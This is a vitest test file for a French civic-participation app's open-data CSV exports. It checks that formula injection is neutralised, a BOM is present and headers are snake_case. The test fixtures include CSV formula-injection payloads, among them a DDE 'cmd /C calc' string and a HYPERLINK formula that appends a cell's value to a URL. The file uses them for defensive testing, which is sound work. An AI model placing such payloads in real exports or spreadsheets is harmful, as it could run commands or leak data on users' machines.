/**
 * Every CSV in the open-data registry goes through the one writer: formulas neutralised,
 * BOM, snake_case headers, and csv-parse (bom: true) reads back what was stored. The
 * hostile cells are this file's own data, put in every CSV's text columns.
 */
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { publishCouncilDecision } from "~/domain/decisions/decisions.server";
import { submitIdea } from "~/domain/ideas/ideas.server";
import { markHeld, publishMinutes, scheduleMeeting } from "~/domain/meetings/meetings.server";
import { datasets } from "~/domain/opendata/registry.server";
import { BOM } from "~/lib/csv";
import { makeUser } from "../support/fixtures";
import { makeVote } from "../support/voting";
import { EXPLANATION, makeCouncil, makeRules, makeTown } from "../support/own-data";

const HOSTILE = {
  formula: '=HYPERLINK("https://example.org/?x="&A1;"Cliquez")',
  plus: "+SUM(1;2)",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)",
  tab: "\t=1+1",
  cr: "\r=2+2",
};
const FORMULA_START = /^[=+\-@\t\r]/;

beforeAll(async () => {
  makeTown();
  const council = makeCouncil();
  const official = await makeUser({ name: "@officielle", roles: [{ role: "official", councilId: null }] });
  const facilitator = await makeUser({ roles: [{ role: "facilitator", councilId: council.id }] });
  const resident = await makeUser();
  await makeRules({ title: HOSTILE.plus }, official);
  submitIdea(resident, { title: HOSTILE.formula, body: `${HOSTILE.minus} : des bancs à l'ombre près de la fontaine.`, theme: "public_space", councilId: council.id, place: HOSTILE.at });
  submitIdea(resident, { title: HOSTILE.tab, body: "Une deuxième idée, sans piège, pour comparer.", theme: "culture", councilId: council.id, place: HOSTILE.cr });
  publishCouncilDecision(official, { councilId: council.id, title: HOSTILE.formula, outcome: "adopted", explanation: `${HOSTILE.minus} ${EXPLANATION}`, evidence: "", supersedes: null });
  const m = scheduleMeeting(facilitator, { councilId: council.id, title: HOSTILE.at, startsAt: "2026-01-05T18:00", endsAt: "2026-01-05T20:00", placeName: HOSTILE.minus, address: "", accessibility: "" });
  markHeld(facilitator, m.id);
  publishMinutes(facilitator, m.id, { body: HOSTILE.formula, attendanceCount: 7, changeNote: "" });
  makeVote(official, { question: HOSTILE.formula });
});

const ctx = { locale: "fr" as const, townName: "Testville" };

describe("open-data CSV files", () => {
  const csvs = () => datasets().filter((d) => d.format === "CSV");

  it("are all written by the one writer (BOM first)", () => {
    expect(csvs().length).toBeGreaterThanOrEqual(4);
    for (const d of csvs()) expect(d.produce(ctx).startsWith(BOM), d.file).toBe(true);
  });

  it.each(["ideas.csv", "register.csv", "meetings.csv", "rules.csv", "votes.csv"])("%s: no cell starts a formula, hostile cells come back quoted", (file) => {
    const d = datasets().find((x) => x.file === file)!;
    const rows = parse(d.produce(ctx), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.length).toBeGreaterThan(0);
    for (const col of Object.keys(rows[0]!)) expect(col, `${file} column`).toMatch(/^[a-z][a-z0-9]*(_[a-z0-9]+)*$/);
    let neutralised = 0;
    for (const r of rows) {
      for (const [col, v] of Object.entries(r)) {
        expect(v, `${file} ${col}`).not.toMatch(FORMULA_START);
        if (Object.values(HOSTILE).some((h) => v === `'${h}` || v.startsWith(`'${h}`))) neutralised++;
      }
    }
    expect(neutralised, file).toBeGreaterThan(0);
  });

  it("every CSV in the registry is covered by the test above", () => {
    // per-vote boards (vote-N-board.csv) hold only hex ids and 0/1 cells, statistics.csv only
    // codes and numbers (tests/integration/votes-routes.test.ts and statistics.test.ts read them)
    expect(csvs().map((d) => d.file).filter((f) => !/^vote-\d+-board\.csv$/.test(f)).sort()).toEqual(["ideas.csv", "meetings.csv", "register.csv", "rules.csv", "statistics.csv", "votes.csv"]);
  });

  it("reads back exactly what was stored, apart from the quote", () => {
    const ideas = parse(datasets().find((x) => x.file === "ideas.csv")!.produce(ctx), { bom: true, columns: true }) as Record<string, string>[];
    expect(ideas.map((i) => i.title)).toEqual([`'${HOSTILE.formula}`, `'${HOSTILE.tab}`]);
    expect(ideas[1]!.place).toBe(`'${HOSTILE.cr}`);
    const rules = parse(datasets().find((x) => x.file === "rules.csv")!.produce(ctx), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(rules[0]!)).toEqual(expect.arrayContaining(["published_at", "answer_delay_days", "min_explanation_length"]));
    expect(rules[0]!.min_explanation_length).toBe("40");
  });
});
